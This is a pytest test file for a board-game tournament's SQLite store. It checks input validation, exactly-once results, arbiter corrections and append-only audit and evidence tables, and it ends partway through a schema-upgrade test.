"""The tournament's SQLite store: every setting read back, every refusal with its message,
exactly-once results, the arbiter's audit trail, exports, durability and threads."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from controller.tournament.exports import export_csv, export_json
from controller.tournament.model import Pairing, Player, Result
from controller.tournament.rows import (
    TIE_BREAKS, Correction, Event, GameRow, Relocation, ResultConflict, Retirement, SchemaError,
    StoreError, TableRow, result_text)
from controller.tournament.schema import SCHEMA_3, SCHEMA_VERSION, statements
from controller.tournament.store import Store

ROOT = Path(__file__).resolve().parents[1]
WIN = Result(1.0, 30, 18)
DRAW = Result(0.5, 24, 24)
LOSS = Result(0.0, 20, 28)
RECORD = '[Event "Club night"]\n\n1. 3 5 2. 1 *\n'


class Clock:
    """Stored times that tick one second a call."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        self.now += 1.0
        return self.now


def new_store(path: str = ":memory:", **event: object) -> Store:
    store = Store(path, clock=Clock())
    settings_ = {"rounds": 3}
    settings_.update(event)
    store.create_event("Club night", "layli-goobalay", **settings_)
    return store


def started(path: str = ":memory:", players: int = 5, **event: object) -> Store:
    """An event with `players` players (rated), three tables and round 1 paired: boards 1, 2
    at tables 1, 2 and, for an odd field, a bye on the last board."""
    store = new_store(path, **event)
    for index in range(players):
        store.register("P%d" % (index + 1), 2000 - 10 * index)
    for table in ("table-1", "table-2", "table-3"):
        store.add_table(table)
    store.fix_numbers()
    pairings = [Pairing(1, 1, 1, 2), Pairing(1, 2, 3, 4)]
    if players % 2:
        pairings.append(Pairing(1, 3, players, None))
    store.add_round(1, pairings, {1: "table-1", 2: "table-2"})
    return store


def dump(store: Store) -> list[str]:
    """Every row of every table, as SQL text: what "nothing changed" compares."""
    return list(store._db.iterdump())


def refused(message: str, call, *args, **kwargs) -> StoreError:
    """Calls `call` and checks it raises StoreError whose message contains `message`."""
    with pytest.raises(StoreError) as caught:
        call(*args, **kwargs)
    assert message in str(caught.value), str(caught.value)
    return caught.value


# The event ------------------------------------------------------------------------------------

class Mover:
    """An option value the rules engine reads (as its text) but JSON cannot hold."""

    def __str__(self) -> str:
        return "mover"


def test_event_is_read_back_as_created_and_set_only_once(tmp_path):
    path = str(tmp_path / "event.db")
    with Store(path) as store:
        event = store.create_event(
            "Hargeisa Open 2025", "layli-goobalay-long", {"pits": 8, "direction": "clockwise"},
            system="round-robin", rounds=7, match_format="hands", bye_points=0.5,
            tie_breaks=["buchholz", "direct_encounter"])
        refused("the event is set up already", store.create_event, "Other", "tampoduo")
    with Store(path) as again:
        assert again.event() == event == Event(
            "Hargeisa Open 2025", "layli-goobalay-long", {"pits": 8, "direction": "clockwise"},
            "round-robin", 7, "hands", 0.5, ("buchholz", "direct_encounter"))
        assert again.game_id(3, 12) == "Hargeisa Open 2025/r3/b12"


def test_event_defaults():
    event = Store(":memory:").create_event("Club night", "tampoduo")
    assert (event.options, event.system, event.rounds, event.match_format, event.bye_points,
            event.tie_breaks) == ({}, "swiss", 1, "game", 1.0, TIE_BREAKS)


@pytest.mark.parametrize("kwargs, message", [
    ({"name": ""}, "the event's name must not be empty"),
    ({"name": " Open"}, "has spaces at its ends"),
    ({"name": "Open\n2025"}, "has a control character"),
    ({"name": "Open/2025"}, "without '/' (it is part of every game id)"),
    ({"name": "x" * 65}, "at most 64 characters"),
    ({"name": 7}, "the event's name must be text, not 7"),
    ({"variant": "oware"}, "the event: unknown variant 'oware'"),
    ({"options": {"pits": 20}}, "option pits of layli-goobalay-long must be from 6 to 12"),
    ({"options": {"colour": "red"}}, "unknown option 'colour'"),
    ({"options": ["pits"]}, "must map option names to values"),
    ({"options": {"end_when": Mover()}}, "the event's options are not JSON"),
    ({"system": "knockout"}, "the event's system must be one of round-robin, swiss, not "
                             "'knockout'"),
    ({"rounds": 0}, "the event's rounds must be a whole number >= 1, not 0"),
    ({"rounds": 2.0}, "the event's rounds must be a whole number >= 1, not 2.0"),
    ({"match_format": "blitz"}, "the event's match format must be one of game, hands"),
    ({"variant": "mangala-iv", "options": {}, "match_format": "hands"},
     "mangala-iv is not played in hands"),
    ({"bye_points": 2}, "the event's bye points must be 1, 0.5 or 0, not 2"),
    ({"bye_points": True}, "the event's bye points must be 1, 0.5 or 0, not True"),
    ({"tie_breaks": ["median"]}, "a tie-break must be one of direct_encounter, buchholz, "
                                 "sonneborn_berger, seed_difference, not 'median'"),
    ({"tie_breaks": ["buchholz", "buchholz"]}, "names one twice"),
    ({"tie_breaks": "buchholz"}, "must be a list of names"),
])
def test_bad_event_settings_are_refused(kwargs, message):
    store = Store(":memory:")
    arguments = {"name": "Open", "variant": "layli-goobalay-long", "options": {"pits": 8}}
    arguments.update(kwargs)
    refused(message, store.create_event, **arguments)
    refused("there is no event yet: create_event() first", store.event)


def test_players_and_rounds_need_the_event():
    store = Store(":memory:")
    refused("there is no event yet", store.register, "Ayan")
    refused("there is no event yet", store.fix_numbers)
    store.add_table("table-1")          # tables are the venue's, not the event's
    assert store.players() == []


# Players and pairing numbers ------------------------------------------------------------------

def test_pairing_numbers_by_rating_then_name_unrated_last():
    store = new_store()
    for name, rating, club in (("warsame", None, ""), ("Hodan", 1620, "Berbera"),
                               ("Ayan", 1500, ""), ("Bile", 1620, ""), ("Abdi", None, "Burao")):
        store.register(name, rating, club)
    expected = [Player(1, "Bile", 1620), Player(2, "Hodan", 1620, "Berbera"),
                Player(3, "Ayan", 1500), Player(4, "Abdi", None, "Burao"),
                Player(5, "warsame", None)]
    assert store.players() == expected       # provisional: the same rule
    assert not store.numbers_fixed()
    assert store.fix_numbers() == expected
    assert store.numbers_fixed()
    assert store.fix_numbers() == expected   # again: no change


def test_pairing_numbers_in_registration_order_when_nobody_is_rated():
    store = new_store()
    for name in ("Warsame", "Ayan", "Hodan"):
        store.register(name)
    assert [(p.number, p.name) for p in store.fix_numbers()] == [
        (1, "Warsame"), (2, "Ayan"), (3, "Hodan")]


def test_register_returns_the_provisional_number_and_refuses_bad_input():
    store = new_store()
    assert store.register("Ayan", 1500) == Player(1, "Ayan", 1500)
    assert store.register("Hodan", 1620, "Berbera") == Player(1, "Hodan", 1620, "Berbera")
    refused("AYAN is registered already (as Ayan)", store.register, "AYAN")
    refused("a player's name must not be empty", store.register, "  ")
    refused("Bile's rating must be a whole number >= 0 or None, not -5", store.register,
            "Bile", -5)
    refused("Bile's rating must be a whole number >= 0 or None, not '1500'", store.register,
            "Bile", "1500")
    refused("Bile's club must be text, not None", store.register, "Bile", None, None)
    assert [p.name for p in store.players()] == ["Hodan", "Ayan"]


def test_fix_numbers_needs_two_players():
    store = new_store()
    store.register("Ayan")
    refused("1 player(s) registered, at least 2 are needed", store.fix_numbers)
    assert not store.numbers_fixed()


def test_late_entry_in_a_swiss_gets_the_next_number_a_round_robin_is_closed():
    swiss = started(players=4)
    assert swiss.register("Late", 2500) == Player(5, "Late", 2500)
    assert [p.number for p in swiss.players()] == [1, 2, 3, 4, 5]
    closed = started(players=4, system="round-robin")
    refused("cannot register Late: the round robin's pairing numbers are fixed",
            closed.register, "Late")


def test_withdrawal_before_the_numbers_are_fixed_cancels_the_registration():
    store = new_store()
    for name in ("Ayan", "Hodan", "Bile"):
        store.register(name)
    store.withdraw("hodan")
    assert [p.name for p in store.players()] == ["Ayan", "Bile"]
    refused("pairing numbers are not fixed yet: name the player, not number 1",
            store.withdraw, 1)
    refused("no player 'Hodan' is registered", store.withdraw, "Hodan")
    refused("a player is named by name or pairing number, not 1.0", store.withdraw, 1.0)


def test_withdrawal_after_round_one_leaves_the_player_out_from_the_next_round():
    store = started(players=5)
    store.withdraw(4)                        # by number, during round 1
    refused("P4 has withdrawn already (from round 2)", store.withdraw, "P4")
    refused("no player 9 is registered", store.withdraw, 9)
    assert store.withdrawals() == {4: 2}
    assert [p.number for p in store.players(active_only=True)] == [1, 2, 3, 5]
    assert [p.number for p in store.players()] == [1, 2, 3, 4, 5]
    assert store.game("Club night/r1/b2").pairing == Pairing(1, 2, 3, 4)   # keeps their game
    for board in (1, 2):
        store.record_result("Club night/r1/b%d" % board, WIN, RECORD)
    refused("round 2 board 2: player 4 has withdrawn (from round 2)", store.add_round, 2,
            [Pairing(2, 1, 5, 1), Pairing(2, 2, 2, 4)], {1: "table-1", 2: "table-2"})


# Tables ---------------------------------------------------------------------------------------

def test_tables_are_registered_and_their_status_updated():
    store = Store(":memory:", clock=Clock())
    store.add_table("table-2")
    store.add_table("table-1")
    assert store.tables() == [TableRow("table-1", "offline", None),
                              TableRow("table-2", "offline", None)]
    store.set_table_status("table-1", "online", seen_at=5.0)
    store.set_table_status("table-2", "playing")          # seen now, by the store's clock
    assert store.tables() == [TableRow("table-1", "online", 5.0),
                              TableRow("table-2", "playing", 1001.0)]
    refused("table table-1 is registered already", store.add_table, "table-1")
    refused("table id 'Table 3' must be 1 to 32 of a-z, 0-9 and -", store.add_table, "Table 3")
    refused("table id '" + "t" * 33 + "' must be", store.add_table, "t" * 33)
    refused("table table-1's status must be one of online, offline, playing, fault, not "
            "'broken'", store.set_table_status, "table-1", "broken")
    refused("no table 'table-9' is registered", store.set_table_status, "table-9", "fault")


# Rounds ---------------------------------------------------------------------------------------

def test_a_round_makes_its_games_and_byes_get_the_events_points():
    store = started(players=5, bye_points=0.5)
    assert store.last_round() == 1
    assert store.games(1) == [
        GameRow("Club night/r1/b1", Pairing(1, 1, 1, 2), "table-1", "assigned", None, None,
                None, None, 0),
        GameRow("Club night/r1/b2", Pairing(1, 2, 3, 4), "table-2", "assigned", None, None,
                None, None, 0),
        GameRow("Club night/r1/b3", Pairing(1, 3, 5, None), None, "confirmed",
                Result(0.5, 0, 0), "", "arbiter", None, 0)]
    assert store.games(2) == []
    assert store.history() == [(Pairing(1, 1, 1, 2), None), (Pairing(1, 2, 3, 4), None),
                               (Pairing(1, 3, 5, None), Result(0.5, 0, 0))]


ROUND_2 = [Pairing(2, 1, 4, 1), Pairing(2, 2, 2, 3)]
TABLES_2 = {1: "table-1", 2: "table-2"}


@pytest.mark.parametrize("round, pairings, tables, message", [
    (1, ROUND_2, TABLES_2, "round 1 has been added already"),
    (3, ROUND_2, TABLES_2, "round 3 cannot be added: the next round is 2"),
    ("2", ROUND_2, TABLES_2, "round '2' cannot be added: the next round is 2"),
    (2, [], TABLES_2, "round 2: the pairings must be a non-empty list of Pairing"),
    (2, (Pairing(2, 1, 4, 1),), {1: "table-1"}, "the pairings must be a non-empty list"),
    (2, [(2, 1, 4, 1)], {1: "table-1"}, "round 2: (2, 1, 4, 1) is not a Pairing"),
    (2, ROUND_2, [("1", "table-1")], "round 2: the tables must map boards to table ids"),
    (2, [Pairing(3, 1, 4, 1), Pairing(2, 2, 2, 3)], TABLES_2,
     "round 2 board 1 is paired for round 3"),
    (2, [Pairing(2, 1, 4, 9), Pairing(2, 2, 2, 3)], TABLES_2,
     "round 2 board 1: no player has pairing number 9"),
    (2, [Pairing(2, 1, 4, 1), Pairing(2, 2, 1, 3)], TABLES_2,
     "round 2 board 2: player 1 is paired on board 1 too"),
    (2, [Pairing(2, 1, 4, 4), Pairing(2, 2, 2, 3)], TABLES_2,
     "round 2 board 1 pairs player 4 with themself"),
    (2, [Pairing(2, 1, 4, 1), Pairing(2, 3, 2, 3)], {1: "table-1", 3: "table-2"},
     "round 2: boards must be numbered 1 to 2, each once, not [1, 3]"),
    (2, [Pairing(2, 1, 4, 1), Pairing(2, 1, 2, 3)], {1: "table-1"},
     "round 2: boards must be numbered 1 to 2, each once, not [1, 1]"),
    (2, ROUND_2, {1: "table-1"}, "round 2 board 2 has no table"),
    (2, ROUND_2, {1: "table-1", 2: "table-9"}, "round 2 board 2: no table 'table-9' is "
                                               "registered"),
    (2, ROUND_2, {1: "table-1", 2: "table-1"}, "round 2: table table-1 is given to boards 1 "
                                               "and 2"),
    (2, ROUND_2, {1: "table-1", 2: "table-2", 3: "table-3"},
     "round 2: tables are given for boards [3], which are not paired"),
    (2, [Pairing(2, 1, 4, 1), Pairing(2, 2, 2, None)], {1: "table-1", 2: "table-2"},
     "round 2 board 2 is a bye and takes no table, not 'table-2'"),
    (4, ROUND_2, TABLES_2, "round 4 cannot be added: the next round is 2"),
])
def test_bad_rounds_are_refused_and_change_nothing(round, pairings, tables, message):
    store = started(players=4)
    for board in (1, 2):
        store.record_result("Club night/r1/b%d" % board, WIN, RECORD)
    before = dump(store)
    refused(message, store.add_round, round, pairings, tables)
    assert dump(store) == before


def test_a_round_waits_for_the_previous_rounds_results():
    store = started(players=5)
    store.record_result("Club night/r1/b2", WIN, RECORD)
    refused("round 2 cannot be added before round 1's results are all in: Club night/r1/b1 "
            "has none", store.add_round, 2, ROUND_2, TABLES_2)
    fresh = started(players=4)
    refused("Club night/r1/b1, Club night/r1/b2 have none", fresh.add_round, 2, ROUND_2,
            TABLES_2)
    store.record_result("Club night/r1/b1", DRAW, RECORD)   # reported is enough to pair
    store.add_round(2, [Pairing(2, 1, 4, 1), Pairing(2, 2, 2, 5), Pairing(2, 3, 3, None)],
                    TABLES_2)
    assert store.last_round() == 2


def test_no_round_beyond_the_events_rounds_and_none_before_the_numbers_are_fixed():
    store = started(players=4, rounds=1)
    for board in (1, 2):
        store.record_result("Club night/r1/b%d" % board, WIN, RECORD)
    refused("round 2 cannot be added: the event has 1 rounds", store.add_round, 2, ROUND_2,
            TABLES_2)
    unfixed = new_store()
    unfixed.register("Ayan")
    unfixed.register("Hodan")
    refused("round 1 cannot be added: pairing numbers are not fixed (fix_numbers() first)",
            unfixed.add_round, 1, [Pairing(1, 1, 1, 2)], {})


def test_games_start_and_move_to_another_table():
    store = started(players=5)
    game = "Club night/r1/b1"
    assert store.mark_playing(game) is True
    assert store.mark_playing(game) is False
    assert store.game(game).status == "playing"
    refused("table table-2 has game Club night/r1/b2 in this round", store.reassign, game,
            "table-2")
    refused("no table 'table-7' is registered", store.reassign, game, "table-7")
    store.reassign(game, "table-3")
    assert (store.game(game).table, store.game(game).status) == ("table-3", "assigned")
    refused("game Club night/r1/b3 is a bye: it takes no table", store.reassign,
            "Club night/r1/b3", "table-1")
    store.record_result(game, WIN, RECORD)
    refused("game Club night/r1/b1 has a result already; it stays at table-3", store.reassign,
            game, "table-1")
    assert store.mark_playing(game) is False
    refused("no game 'Club night/r9/b1'", store.mark_playing, "Club night/r9/b1")
    refused("no game 'nope'", store.game, "nope")


# Results: exactly once ------------------------------------------------------------------------

def test_a_result_is_recorded_once_and_copies_are_counted():
    store = started(players=5)
    game = "Club night/r1/b1"
    assert store.record_result(game, WIN, RECORD) is True
    assert store.record_result(game, WIN, RECORD) is False
    assert store.record_result(game, WIN, RECORD) is False
    row = store.game(game)
    assert (row.status, row.result, row.record, row.source, row.duplicates) == (
        "reported", WIN, RECORD, "board", 2)
    assert store.counts()["duplicates"] == 2


def test_a_conflicting_result_is_refused_and_changes_nothing():
    store = started(players=5)
    game = "Club night/r1/b1"
    store.record_result(game, WIN, RECORD)
    before = dump(store)
    with pytest.raises(ResultConflict) as caught:
        store.record_result(game, DRAW, RECORD)
    assert str(caught.value) == (
        "game Club night/r1/b1 has a result already (1-0, seeds 30-18, reported); this one "
        "(1/2-1/2, seeds 24-24) differs in its result: not recorded")
    assert (caught.value.game_id, caught.value.recorded, caught.value.offered) == (
        game, WIN, DRAW)
    refused("differs in its record: not recorded", store.record_result, game, WIN,
            RECORD + "2. 4 *\n")
    refused("differs in its result", store.record_result, game, Result(1.0, 31, 17), RECORD,
            source="arbiter")
    assert dump(store) == before


def test_the_schema_itself_keeps_one_result_a_game():
    store = started(players=5)
    store.record_result("Club night/r1/b1", WIN, RECORD)
    with pytest.raises(sqlite3.IntegrityError, match="UNIQUE constraint failed: results.game_id"):
        store._db.execute("INSERT INTO results (game_id, south_points, south_seeds, north_seeds,"
                          " record, source, recorded_at) VALUES ('Club night/r1/b1', 0, 1, 2, "
                          "'x', 'board', 0)")
    with pytest.raises(sqlite3.IntegrityError, match="FOREIGN KEY"):
        store._db.execute("INSERT INTO results (game_id, south_points, south_seeds, north_seeds,"
                          " record, source, recorded_at) VALUES ('Club night/r7/b1', 0, 1, 2, "
                          "'x', 'board', 0)")


def test_bad_results_are_refused():
    store = started(players=5)
    game = "Club night/r1/b1"
    refused("game Club night/r1/b1's result must be a Result, not (1.0, 30, 18)",
            store.record_result, game, (1.0, 30, 18), RECORD)
    refused("game Club night/r1/b1's result source must be one of board, arbiter, not 'table'",
            store.record_result, game, WIN, RECORD, source="table")
    refused("game Club night/r1/b1's record must not be empty", store.record_result, game, WIN,
            "")
    refused("game Club night/r1/b1's record must be text, not None", store.record_result, game,
            WIN, None)
    refused("no game 'Club night/r1/b9'", store.record_result, "Club night/r1/b9", WIN, RECORD)
    refused("game Club night/r1/b3 is a bye: it takes no result", store.record_result,
            "Club night/r1/b3", WIN, RECORD)
    assert store.game(game).result is None
    # The arbiter's result of a game whose board failed needs no record.
    assert store.record_result(game, LOSS, "", source="arbiter") is True
    assert (store.game(game).source, store.game(game).status) == ("arbiter", "reported")


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(st.integers(1, 2), st.sampled_from([WIN, DRAW, LOSS]),
                          st.sampled_from(["a", "b"])), max_size=12))
def test_every_game_keeps_its_first_result_whatever_arrives(sends):
    store = started(players=4)
    first: dict[int, tuple[Result, str]] = {}
    copies = {1: 0, 2: 0}
    for board, result, record in sends:
        game = "Club night/r1/b%d" % board
        if board not in first:
            assert store.record_result(game, result, record) is True
            first[board] = (result, record)
        elif first[board] == (result, record):
            assert store.record_result(game, result, record) is False
            copies[board] += 1
        else:
            with pytest.raises(ResultConflict):
                store.record_result(game, result, record)
    for board in (1, 2):
        row = store.game("Club night/r1/b%d" % board)
        assert (row.result, row.record) == first.get(board, (None, None))
        assert row.duplicates == copies[board]


# The arbiter ----------------------------------------------------------------------------------

def test_the_arbiter_confirms_and_corrects_and_every_correction_is_kept():
    store = started(players=5)
    game = "Club night/r1/b1"
    refused("game Club night/r1/b1 has no result to confirm", store.confirm, game, "Ali")
    store.record_result(game, WIN, RECORD)
    store.confirm(game, "Ali")
    assert (store.game(game).status, store.game(game).confirmed_by) == ("confirmed", "Ali")
    refused("game Club night/r1/b1 is confirmed already (by Ali)", store.confirm, game, "Ali")
    refused("game Club night/r1/b1 has that result already (1-0, seeds 30-18): nothing to "
            "correct", store.correct, game, WIN, "Ali", "checking")
    refused("the reason for correcting game Club night/r1/b1 must not be empty", store.correct,
            game, DRAW, "Ali", " ")
    refused("the arbiter's name must not be empty", store.correct, game, DRAW, "", "x")
    refused("game Club night/r1/b1's corrected result must be a Result", store.correct, game,
            0.5, "Ali", "x")
    store.correct(game, DRAW, "Ali", "the players agreed a draw before the end")
    store.correct(game, LOSS, "Sahra", "North had won on time: sensor fault")
    row = store.game(game)
    assert (row.status, row.result, row.source, row.confirmed_by, row.record) == (
        "corrected", LOSS, "arbiter", "Sahra", RECORD)
    refused("game Club night/r1/b1 was corrected by Sahra: its result is the arbiter's "
            "already", store.confirm, game, "Ali")
    first, second = store.corrections()
    assert store.corrections(game) == [first, second]
    assert first == Correction(game, WIN, DRAW, "Ali", "the players agreed a draw before the end",
                               first.at)
    assert second == Correction(game, DRAW, LOSS, "Sahra", "North had won on time: sensor fault",
                                second.at)
    assert first.at < second.at
    assert store.corrections("Club night/r1/b2") == []
    refused("game Club night/r1/b3 is a bye: its result is the event's bye points",
            store.correct, "Club night/r1/b3", LOSS, "Ali", "x")
    refused("game Club night/r1/b3 is a bye", store.confirm, "Club night/r1/b3", "Ali")
    refused("no game 'x'", store.confirm, "x", "Ali")


def test_the_board_sending_its_result_again_after_a_correction_is_a_copy_not_a_conflict():
    store = started(players=5)
    game = "Club night/r1/b1"
    store.record_result(game, WIN, RECORD)
    store.correct(game, DRAW, "Ali", "agreed draw")
    assert store.record_result(game, WIN, RECORD) is False      # the retained original
    assert store.game(game).result == DRAW
    refused("has a result already (1/2-1/2, seeds 24-24, corrected); this one (0-1, seeds "
            "20-28) differs in its result", store.record_result, game, LOSS, RECORD)


def test_the_audit_table_cannot_lose_a_correction():
    store = started(players=5)
    store.record_result("Club night/r1/b1", WIN, RECORD)
    store.correct("Club night/r1/b1", DRAW, "Ali", "agreed draw")
    with pytest.raises(sqlite3.IntegrityError, match="corrections are never deleted"):
        store._db.execute("DELETE FROM corrections")
    with pytest.raises(sqlite3.IntegrityError, match="corrections are never changed"):
        store._db.execute("UPDATE corrections SET reason = 'nothing'")
    assert len(store.corrections()) == 1


# Moves, and games moved to another table -----------------------------------------------------

def test_moves_are_kept_ply_by_ply_and_a_takeback_replaces_what_follows():
    store = started(players=5)
    game = "Club night/r1/b1"
    for ply, move in enumerate([3, 1, 4, 2], 1):
        assert store.record_move(game, "table-1", ply, move)
    assert store.moves(game) == [3, 1, 4, 2]
    assert store.record_move(game, "table-1", 3, 6)        # two taken back, another played
    assert store.moves(game) == [3, 1, 6]
    assert store.record_move(game, "table-1", 3, 6)        # a copy changes nothing
    assert store.moves(game) == [3, 1, 6] and store.moves("Club night/r1/b2") == []
    before = dump(store)
    refused("table-2 sent a move of Club night/r1/b1, which is played at table-1",
            store.record_move, game, "table-2", 4, 1)
    refused("table-1 sent a move of Club night/r9/b1, a game this event does not have",
            store.record_move, "Club night/r9/b1", "table-1", 1, 1)
    refused("ply 0 move 1", store.record_move, game, "table-1", 0, 1)
    assert dump(store) == before
    store.record_result(game, WIN, RECORD)
    assert not store.record_move(game, "table-1", 4, 2)    # a late copy after the result
    assert store.moves(game) == [3, 1, 6]


def test_a_game_moves_to_a_spare_table_with_the_arbiters_reason_kept():
    store = started(players=5)
    game = "Club night/r1/b2"
    store.record_move(game, "table-2", 1, 5)
    before = dump(store)
    refused("table-1 has game Club night/r1/b1 of round 1: choose a table with no game this "
            "round (spare: table-3)", store.move_game, game, "table-1", "Ali", "dead cell", 1)
    refused("there is no table 'table-9' at this event (its tables: table-1, table-2, table-3)",
            store.move_game, game, "table-9", "Ali", "dead cell", 1)
    refused("game Club night/r1/b2 is at table-2 already",
            store.move_game, game, "table-2", "Ali", "dead cell", 1)
    refused("game Club night/r1/b3 is a bye", store.move_game, "Club night/r1/b3", "table-3",
            "Ali", "dead cell", 0)
    refused("the reason for moving game Club night/r1/b2 must not be empty",
            store.move_game, game, "table-3", "Ali", " ", 1)
    assert dump(store) == before
    assert store.move_game(game, "table-3", "Ali", "a load cell died", 1) == "table-2"
    assert store.game(game).table == "table-3"
    assert store.relocations() == [Relocation(game, "table-2", "table-3", 1, "Ali",
                                              "a load cell died", store.relocations()[0].at)]
    assert export_json(store)["relocations"][0]["to"] == "table-3"
    # its moves stay; now table-3 reports them, and table-2 is refused
    refused("table-2 sent a move of Club night/r1/b2, which is played at table-3",
            store.record_move, game, "table-2", 2, 1)
    assert store.record_move(game, "table-3", 2, 1) and store.moves(game) == [5, 1]
    store.record_result(game, WIN, RECORD)
    refused("game Club night/r1/b2 has a result already (1-0, seeds 30-18): nothing is left "
            "to play", store.move_game, game, "table-2", "Ali", "again", 2)
    with pytest.raises(sqlite3.IntegrityError, match="relocations are never deleted"):
        store._db.execute("DELETE FROM relocations")


def test_a_retired_table_is_paired_no_more_until_it_returns():
    store = started(players=5)
    before = dump(store)
    refused("table table-1 has game Club night/r1/b1, which has no result: move it to another "
            "table first (or enter its result)", store.retire_table, "table-1", "Ali", "dead")
    refused("there is no table 'table-9' at this event", store.retire_table, "table-9", "Ali",
            "dead")
    refused("the reason for retiring table table-3 must not be empty", store.retire_table,
            "table-3", "Ali", "")
    refused("table table-3 is not retired", store.return_table, "table-3")
    assert dump(store) == before
    store.retire_table("table-3", "Ali", "its cells are broken")
    assert store.retired() == {"table-3": Retirement("table-3", "Ali", "its cells are broken",
                                                     store.retired()["table-3"].at)}
    refused("table table-3 is retired already", store.retire_table, "table-3", "Ali", "again")
    refused("table table-3 is retired (its cells are broken): return it to play first",
            store.move_game, "Club night/r1/b2", "table-3", "Ali", "dead", 0)
    store.record_result("Club night/r1/b1", WIN, RECORD)
    store.record_result("Club night/r1/b2", WIN, RECORD)
    refused("round 2 board 1: table table-3 is retired", store.add_round, 2,
            [Pairing(2, 1, 1, 3), Pairing(2, 2, 2, 4), Pairing(2, 3, 5, None)],
            {1: "table-3", 2: "table-2"})
    store.return_table("table-3")
    assert store.retired() == {}
    store.add_round(2, [Pairing(2, 1, 1, 3), Pairing(2, 2, 2, 4), Pairing(2, 3, 5, None)],
                    {1: "table-3", 2: "table-2"})
    assert store.game("Club night/r2/b1").table == "table-3"

def test_held_results_are_kept_one_row_each_as_they_came():
    """Issue 41: a later result held for a game does not take the place of an earlier one;
    a copy of the newest is counted; accepting the newest marks the earlier ones replaced."""
    store = started()
    game = "Club night/r1/b1"
    first = (Result(1.0, 30, 18), "forged record", [3], [4], 1, "parts at move 1")
    second = (Result(0.0, 18, 30), "the board's record", [3], [3, 5], 2, "took back")
    assert store.hold_result(game, "table-1", *first)
    assert store.hold_result(game, "table-1", *second)
    assert not store.hold_result(game, "table-1", *second)          # a copy
    rows = store.held()
    assert [(row.record, row.copies, row.reason) for row in rows] == [
        ("forged record", 1, "parts at move 1"), ("the board's record", 2, "took back")]
    assert store.accept_held(game, "Deeqa") == Result(0.0, 18, 30)
    assert [(row.decision, row.arbiter) for row in store.held()] == [
        ("replaced", "Deeqa"), ("accepted", "Deeqa")]
    refused("has a result already", store.hold_result, game, "table-1", *first)


def test_the_evidence_log_is_only_ever_appended_to(tmp_path):
    """Issue 41: what a board reported is kept as it came; a copy, a takeback, a replayed old
    move are entries, and nothing (not even SQL on the file) changes or deletes one."""
    path = str(tmp_path / "event.db")
    store = started(path)
    game = "Club night/r1/b1"
    for ply, move in ((1, 3), (2, 5), (3, 1), (1, 3), (3, 4)):
        assert store.record_move(game, "table-1", ply, move, sent_at=100.0 + ply)
    assert store.moves(game) == [3, 5, 4]
    seen = store.line(game)
    assert seen.copies == 1 and [(t.ply, t.undone) for t in seen.takebacks] == [(3, 1)]
    assert [(report.ply, report.move, report.sent_at) for report in store.evidence(game)] == [
        (1, 3, 101.0), (2, 5, 102.0), (3, 1, 103.0), (1, 3, 101.0), (3, 4, 103.0)]
    store.close()
    db = sqlite3.connect(path)
    for statement in ("UPDATE evidence SET move = 6", "DELETE FROM evidence"):
        with pytest.raises(sqlite3.IntegrityError, match="evidence log"):
            db.execute(statement)
    db.close()


def as_version_4(db: sqlite3.Connection) -> None:
    """The moves as versions 2 to 4 kept them (the line so far, rewritten on a takeback), no
    evidence log, and held results without their reason."""
    drop_evidence(db)
    db.execute("CREATE TABLE moves (game_id TEXT NOT NULL REFERENCES games (id), "
               "ply INTEGER NOT NULL CHECK (ply >= 1), move INTEGER NOT NULL CHECK (move >= 1), "
               "PRIMARY KEY (game_id, ply))")
    db.execute("DROP TRIGGER held_are_kept")        # held as version 3 made it: one a game
    db.execute("DROP TABLE held")
    for statement in statements(SCHEMA_3):
        db.execute(statement)


def drop_evidence(db: sqlite3.Connection) -> None:
    for name in ("evidence_is_never_changed", "evidence_is_never_deleted"):
        db.execute("DROP TRIGGER %s" % name)
    db.execute("DROP TABLE evidence")


def test_a_version_4_file_has_its_moves_made_the_first_evidence(tmp_path):
    path = str(tmp_path / "event.db")
    started(path).close()
    db = sqlite3.connect(path)
    as_version_4(db)
    db.executemany("INSERT INTO moves (game_id, ply, move) VALUES (?, ?, ?)",
                   [("Club night/r1/b1", 1, 3), ("Club night/r1/b1", 2, 5)])
    db.execute("UPDATE layli_schema SET version = 4")
    db.commit()
    db.close()
    store = Store(path)
    assert store.moves("Club night/r1/b1") == [3, 5]
    assert [(report.table, report.ply, report.move) for report in
            store.evidence("Club night/r1/b1")] == [("table-1", 1, 3), ("table-1", 2, 5)]
    assert store.record_move("Club night/r1/b1", "table-1", 3, 1)
    assert store.moves("Club night/r1/b1") == [3, 5, 1]
    store.close()


def as_version_3_kept_rejected(db: sqlite3.Connection) -> None:
    """The rejected messages as versions 1 to 3 kept them: a row a message."""
    db.execute("DROP TABLE rejections")
    db.execute("CREATE TABLE rejected (id INTEGER PRIMARY KEY, at REAL NOT NULL, "
               "topic TEXT NOT NULL, reason TEXT NOT NULL, detail TEXT NOT NULL, "
               "payload TEXT NOT NULL)")
    db.execute("CREATE INDEX rejected_by_reason ON rejected (reason)")


def test_a_version_3_file_has_its_rejected_messages_summed_when_opened(tmp_path):
    path = str(tmp_path / "event.db")
    started(path).close()
    db = sqlite3.connect(path)
    as_version_4(db)
    as_version_3_kept_rejected(db)
    for at, topic, reason, detail in (
            (1.0, "layli/table/table-2/move", "MessageError", "the first"),
            (2.0, "layli/table/table-2/state", "MessageError", "the latest"),
            (3.0, "layli/table/table-1/result", "conflict", "one"),
            (4.0, "elsewhere", "MessageError", "not ours")):
        db.execute("INSERT INTO rejected (at, topic, reason, detail, payload) VALUES "
                   "(?, ?, ?, ?, '{}')", (at, topic, reason, detail))
    db.execute("UPDATE layli_schema SET version = 3")
    db.commit()
    db.close()
    store = Store(path)
    assert store.rejected_counts() == {"MessageError": 3, "conflict": 1}
    rows = {(row.table, row.reason): row for row in store.rejected()}
    summed = rows[("table-2", "MessageError")]
    assert (summed.count, summed.first_at, summed.at, summed.detail, summed.topic) == (
        2, 1.0, 2.0, "the latest", "layli/table/table-2/state")
    assert rows[("", "MessageError")].count == 1 and rows[("table-1", "conflict")].count == 1
    store.close()


def test_a_version_1_file_is_upgraded_when_opened(tmp_path):
    path = str(tmp_path / "event.db")
    started(path).close()
    db = sqlite3.connect(path)              # as version 1 made it: no moves, no relocations
    for name in ("relocations_are_kept", "relocations_are_fixed"):
        db.execute("DROP TRIGGER %s" % name)
    db.execute("DROP TABLE relocations")
